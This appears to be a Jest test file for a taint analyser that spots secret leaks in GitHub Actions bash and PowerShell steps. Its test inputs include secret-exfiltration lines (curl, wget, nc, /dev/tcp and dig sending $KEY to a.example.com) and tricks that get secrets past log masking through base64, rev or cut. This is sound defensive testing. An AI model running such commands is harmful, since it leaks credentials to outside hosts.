import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { beforeAll, describe, expect, test } from '@jest/globals';
import { loadPowerShell } from '../../../src/engine/shell/powershell.ts';
import { type SecretFlow, secretFlow } from '../../../src/engine/taint/secret-flow.ts';
import { jobOf } from '../given.ts';

const { resolve } = createRequire(import.meta.url);
const bytes = (file: string) => new Uint8Array(readFileSync(resolve(file)));

beforeAll(async () => {
  await loadPowerShell({
    runtime: bytes('web-tree-sitter/web-tree-sitter.wasm'),
    grammar: bytes('tree-sitter-powershell/tree-sitter-powershell.wasm'),
  });
});

function flowOf(script: string, runner = 'ubuntu-latest'): SecretFlow {
  const text = [
    'on: push',
    'jobs:',
    '  a:',
    `    runs-on: ${runner}`,
    '    env:',
    '      KEY: "${{ secrets.API_KEY }}"',
    '    steps:',
    '      - env:',
    '          NAME: plain',
    '          PART: "${{ fromJSON(secrets.ACCOUNT).part }}"',
    '        run: |',
    ...script.split('\n').map((line) => `          ${line}`),
    '',
  ];
  const found = jobOf(text.join('\n')).steps[0]?.script;
  if (!found) throw new Error('no script');
  return secretFlow(found);
}

const told = ({ events }: SecretFlow) =>
  events.map(({ kind, value, variable }) => [kind, value.kind, value.by, variable ?? ''].join(' ').trim());

/** Protects secrets from being printed in another form, and people from alarms over what stays hidden or never comes out. */
describe('what a bash script makes of a secret', () => {
  test.each([
    ['echo "$KEY"', ['log known']],
    ['echo "${{ secrets.OTHER }}"', ['log known']],
    ["echo '$KEY'", []],
    ['echo "$NAME"', []],
    ['echo "$PART"', ['log derived fromJSON']],
    ['echo "${KEY:0:4}"', ['log derived ${KEY:0:4}']],
    ['echo "${KEY:-none}"', ['log known']],
    ['echo "${#KEY} ${KEY:+set}"', []],
    ['echo "$KEY" | base64', ['log derived base64']],
    ['base64 <<< "$KEY"', ['log derived base64']],
    ['printf %s "$KEY" | cut -c1-4 >&2', ['log derived cut']],
    ['printf %s "$KEY" | head -n1', ['log known']],
    ['printf %s "$KEY" | tr -d "\\n"', ['log known']],
    ['printf %s "$KEY" | sha256sum', []],
    ['printf %s "$KEY" | grep -q x', []],
    ['printf %s "$KEY" > key.txt\nxxd key.txt', ['log derived xxd']],
    ['echo "$KEY" | base64 -d > key.bin', []],
    ['A=$(echo "$KEY" | rev)\necho "$A"', ['log derived rev A']],
    ['A=$(echo "$KEY" | rev)\nB="x$A"\nA=\necho "$A$B"', ['log derived rev B']],
    ['A=$(echo "$KEY" | rev)\necho "::add-mask::$A"\necho "$A"', ['log known ::add-mask::']],
    ['echo "A=$(echo "$KEY" | rev)" >> "$GITHUB_ENV"', ['env derived rev']],
    ['{ echo "$KEY" | rev; } >> "$GITHUB_STEP_SUMMARY"', ['summary derived rev']],
    ['echo "$KEY" | rev | tee -a $GITHUB_OUTPUT', ['output derived rev', 'log derived rev']],
    ['set -x\nA=$(echo "$KEY" | rev)', ['trace derived rev A']],
    ['set -x\nset +x\nA=$(echo "$KEY" | rev)', []],
    ['set -x\n./deploy "$KEY"', []],
    ['curl -v -u "x:$KEY" https://example.com', ['trace derived curl -u KEY']],
    ['curl -u "x:$KEY" https://example.com', []],
    ['curl -H "K: $(echo "$KEY" | base64)" https://example.com', []],
    ['A=$(curl -d "$KEY" https://example.com | jq -r .state)\necho "$A"', []],
    ['A=$(curl -d "$KEY" https://example.com | jq -r .access_token)\necho "$A"', ['log fetched curl | jq A']],
    ['A=$(curl -d "$KEY" https://example.com | jq -r .next_page_token)\necho "$A"', []],
    ['TOKEN=$(curl -d "$KEY" https://example.com)\necho "$TOKEN"', ['log fetched curl TOKEN']],
    ['vault read -field=x secret/y', ['log fetched vault read']],
    ['f() { echo "$KEY" | rev; }\nA=$(f)', []],
    ['f() { echo "$KEY" | rev; }\nf', ['log derived rev']],
    ['IFS=: read -r A B <<< "$KEY"\necho "$B"', ['log derived read B']],
    ['env | sort', ['log derived fromJSON']],
    ['printenv KEY | base64', ['log derived base64']],
  ])('%s', (script, expected) => {
    expect(told(flowOf(script))).toEqual(expected);
  });
});

describe('what a PowerShell script makes of a secret', () => {
  test.each([
    ['Write-Host $env:KEY', ['log known']],
    ['Write-Host $key', []],
    ['Write-Host $env:KEY.Length', []],
    ['$a = $env:KEY.Substring(0, 4)\nWrite-Output "a $A"', ['log derived $env:KEY.Substring(0, 4) A']],
    [
      '$a = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($env:KEY))\n"A=$a" >> $env:GITHUB_ENV',
      ['env derived ToBase64String a'],
    ],
    ['$a = $env:KEY -split ":"\nWrite-Output "::add-mask::$a"\nWrite-Output $a', ['log known ::add-mask::']],
  ])('%s', (script, expected) => {
    expect(told(flowOf(script, 'windows-latest')).map((one) => one.toLowerCase())).toEqual(
      expected.map((one) => one.toLowerCase()),
    );
  });
});

/** Protects secrets from strangers' hosts, and people from alarms over their own. */
describe('where a secret is sent', () => {
  test.each([
    ['curl -H "A: $KEY" https://a.example.com/x', ['header a.example.com']],
    ['curl -d "a=$KEY" a.example.com', ['body a.example.com']],
    ['curl "https://a.example.com/?k=$KEY"', ['url a.example.com']],
    ['H=a.example.com\ncurl -T - "https://$H/x" <<< "$KEY"', ['body a.example.com']],
    ['curl -d "$KEY" "https://${NAME}.example.com"', ['body example.com']],
    ['curl -d "$KEY" "$SERVER/x"', ['body null']],
    ['curl -d x "$KEY"', []],
    ['curl "https://x:$KEY@a.example.com"', []],
    ['wget --post-data="k=$KEY" https://a.example.com', ['body a.example.com']],
    ['echo "$KEY" | nc a.example.com 80', ['raw a.example.com']],
    ['echo "$KEY" > /dev/tcp/a.example.com/80', ['raw a.example.com']],
    ['dig "$KEY.example.com"', ['dns null']],
    ['dig "$HOST"', []],
    ['echo "$KEY" | docker login --password-stdin a.example.com', []],
  ])('%s', (script, expected) => {
    expect(flowOf(script).requests.map(({ how, host }) => `${how} ${host}`)).toEqual(expected);
  });
});

/** A hostile script must cost no more than its length. */
test.each([
  ['substitutions in each other', `echo "${'$(echo '.repeat(30)}$KEY${')'.repeat(30)}"`],
  ['a pipe of thousands', `echo "$KEY"${' | rev'.repeat(2_900)}`],
  [
    'thousands of variables',
    Array.from({ length: 2_500 }, (_, at) => `A${at}=$(echo "$KEY$A${at - 1}" | rev)`).join('\n'),
  ],
  [
    'thousands of functions',
    `${Array.from({ length: 2_000 }, (_, at) => `f${at}() {\n  echo $(f${at})\n}`).join('\n')}\necho "$KEY"`,
  ],
])('%s', (_, script) => {
  const before = process.cpuUsage();
  flowOf(script);
  // CPU, not the clock: the machine may be busy.
  expect(process.cpuUsage(before).user / 1000).toBeLessThan(2_000);
});
